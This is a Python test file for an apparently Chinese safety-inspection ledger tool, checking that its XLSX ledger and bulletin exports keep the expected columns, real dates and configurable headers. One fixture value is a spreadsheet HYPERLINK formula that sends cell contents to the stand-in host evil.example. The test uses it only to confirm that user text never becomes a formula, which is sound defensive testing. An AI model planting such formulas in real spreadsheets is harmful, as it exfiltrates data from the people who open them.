"""XLSX: user text is never a formula in any sheet; the ledger has 序号 and the columns offices
keep, with real dates; the bulletin's dates are dates and its labels say what they count."""
from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from inspect_cli.ledger import open_ledger
from inspect_cli.reports import render_report

from .fixture import SITE_A, build

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture(scope="module")
def formula_ledger(tmp_path_factory):
    folder = tmp_path_factory.mktemp("formula")
    with pytest.MonkeyPatch.context() as mp:
        path = build(folder, mp, site_name=FORMULA, note="=1+1")
    return open_ledger(path, today="2026-04-15")


@pytest.mark.parametrize("kind,month", [("ledger", None), ("bulletin", "2026-03")])
def test_user_text_never_becomes_a_formula_in_any_sheet(formula_ledger, tmp_path, kind, month):
    from openpyxl import load_workbook

    out = render_report(formula_ledger, kind, fmt="xlsx", out=tmp_path / f"{kind}.xlsx", month=month)["out"]
    wb = load_workbook(out)
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                seen += cell.value == FORMULA
    assert seen >= 1  # the text is there, as text


def test_ledger_xlsx_has_the_office_columns_with_real_dates(ledger, tmp_path):
    from openpyxl import load_workbook

    render_report(ledger, "order", "I-00000-00002", out=tmp_path / "o.html")
    ws = load_workbook(render_report(ledger, "ledger", fmt="xlsx", out=tmp_path / "l.xlsx")["out"]).worksheets[0]
    rows = list(ws.iter_rows(values_only=True))
    header = rows[0]
    assert header[0] == "序号"
    for col in ("整改措施", "整改责任人", "整改资金", "整改完成日期", "复查人", "复查日期", "隐患来源/检查类别", "行业", "区域",
                "指令书文号", "挂牌督办级别", "延期次数"):
        assert col in header, col
    by_id = {r[header.index("隐患编号")]: dict(zip(header, r)) for r in rows[1:]}
    assert [r[0] for r in rows[1:]] == list(range(1, len(rows)))
    vent = by_id["H-00000-00003"]
    assert vent["隐患来源/检查类别"] == "执法检查" and vent["行业"] == "轻工"
    assert vent["指令书文号"] == "（榕某应急）应急责改〔2026〕1号"
    assert vent["整改措施"] == "已更换泄爆片" and vent["整改责任人"] == "设备科 王建国" and vent["整改资金"] == "企业自筹2万元"
    assert isinstance(vent["整改完成日期"], dt.datetime) and vent["整改完成日期"].date() == dt.date(2026, 3, 28)
    assert isinstance(vent["复查日期"], dt.datetime) and vent["复查人"].startswith("张伟")
    assert vent["挂牌督办级别"] == "区级" and vent["延期次数"] == 1


def test_bulletin_xlsx_dates_are_dates_and_the_overdue_count_is_labelled_as_a_count(ledger, tmp_path):
    from openpyxl import load_workbook

    wb = load_workbook(render_report(ledger, "bulletin", fmt="xlsx", out=tmp_path / "b.xlsx", month="2026-03")["out"])
    new = wb["本月新增隐患"]
    header = [c.value for c in new[1]]
    first = [c.value for c in new[2]]
    assert isinstance(first[header.index("发现日期")], dt.datetime)
    sites = wb["未销号"]
    header = [c.value for c in sites[1]]
    assert "逾期天数" not in header and "逾期≥1天" in header


def test_a_bureau_chooses_its_ledger_columns_with_a_yaml_file(ledger, tmp_path):
    from openpyxl import load_workbook

    cols = tmp_path / "columns.yaml"
    cols.write_text("columns:\n  - 序号\n  - site_name\n  - key: description\n    header: 隐患及问题\n    width: 40\n"
                    "  - 整改期限\n", encoding="utf-8")
    ledger.set_setting("report.ledger_columns", str(cols))
    ws = load_workbook(render_report(ledger, "ledger", fmt="xlsx", out=tmp_path / "l.xlsx")["out"]).worksheets[0]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("序号", "被检查单位", "隐患及问题", "整改期限")
    assert rows[1][0] == 1 and isinstance(rows[1][3], dt.datetime)
    assert ws.column_dimensions["C"].width == 40


@pytest.mark.parametrize("text,message", [
    ("columns:\n  - 不存在的列\n", "not a ledger column"),
    ("columns: 序号\n", "write a list"),
    ("columns:\n  - key: id\n    width: 0\n", "width"),
])
def test_a_bad_column_file_is_a_clear_error(ledger_path, tmp_path, text, message):
    from cli.runner import invoke

    cols = tmp_path / "columns.yaml"
    cols.write_text(text, encoding="utf-8")
    base = ["--ledger", str(ledger_path), "--today", "2026-04-15"]
    assert invoke(["config", "set", "report.ledger_columns", str(cols), "--ledger", str(ledger_path)]).exit_code == 0
    r = invoke(["report", "ledger", "--format", "xlsx", "--out", str(tmp_path / "l.xlsx"), *base])
    assert r.exit_code == 2 and message in r.stderr and str(cols) in r.stderr
    assert not (tmp_path / "l.xlsx").exists()
